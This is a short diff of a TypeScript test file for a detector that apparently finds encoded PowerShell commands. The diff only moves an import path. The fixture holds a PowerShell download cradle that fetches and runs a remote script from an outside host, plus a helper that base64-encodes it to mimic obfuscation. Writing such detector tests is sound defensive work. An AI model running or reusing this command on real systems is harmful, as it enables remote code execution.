@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { triageBytes } from '../pipeline/bytes.js';
-import { findEncodedCommands } from './encoded-commands.js';
+import { findEncodedCommands } from '../../extract/indicators/encoded-commands.js';
 
 const enc = (s: string): string => Buffer.from(s, 'utf16le').toString('base64');
 const CMD = 'IEX (New-Object Net.WebClient).DownloadString("http://update-cdn.kx-beacon.org/a.ps1")';
